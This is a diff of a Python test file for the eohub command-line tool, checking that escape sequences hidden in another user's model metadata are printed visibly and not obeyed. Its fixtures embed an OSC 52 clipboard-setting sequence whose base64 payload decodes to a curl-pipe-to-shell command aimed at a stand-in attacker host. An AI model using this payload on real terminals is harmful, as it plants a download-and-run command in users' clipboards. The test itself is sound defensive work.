@@ -4,7 +4,6 @@ metadata, names and a hub's error messages are printed as visible escapes by eve
 
 from __future__ import annotations
 
-import hashlib
 from pathlib import Path
 
 import pytest
@@ -12,9 +11,7 @@ from typer.testing import CliRunner
 
 from eohub.cli.common import printable
 from eohub.cli.main import app
-from eohub.core.readme import ReadmeMetadata
-from eohub.repository import Manifest, open_embedded
-from eohub.repository.manifest import FileEntry
+from eohub.repository import open_embedded
 
 OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcyB8IHNo\x07"  # sets the clipboard in many terminals
 
@@ -27,16 +24,16 @@ def test_control_characters_are_shown_not_obeyed(text: str):
 
 
 def test_metadata_from_another_user_cannot_drive_the_terminal(tmp_path: Path):
-    data = b"bob's bytes"
-    path = tmp_path / "data.bin"
-    path.write_bytes(data)
-    entry = FileEntry("data.bin", len(data), hashlib.sha256(data).hexdigest())
+    folder = tmp_path / "bob"
+    folder.mkdir()
+    (folder / "data.bin").write_bytes(b"bob's bytes")
+    readme = (  # YAML's \\e and \\a are ESC and BEL: an OSC 52 sequence that sets the clipboard
+        '---\nname: Bob-Model\nauthors: ["Bob\\e]52;c;Y3VybCBldmlsLmV4YW1wbGUvcyB8IHNo\\a"]\n'
+        "license: MIT\nsource: https://x.org\n---\n\rok\n"
+    )
+    (folder / "README.md").write_text(readme)
     with open_embedded(user="bob") as bob:
-        from eohub.repository.progress import Silent
-
-        bob.upload_blob(entry, path, Silent())
-        metadata = ReadmeMetadata(name="Bob-Model", authors=[f"Bob{OSC52}"], description=f"\rok{OSC52}")
-        bob.commit_version("model", "Bob-Model", Manifest([entry], {}, metadata), None, allow_invalid=True)
+        bob.ingest("model", folder)
     runner = CliRunner()
     for args in (["models", "info", "Bob-Model"], ["models", "list"], ["models", "versions", "Bob-Model"]):
         result = runner.invoke(app, args)
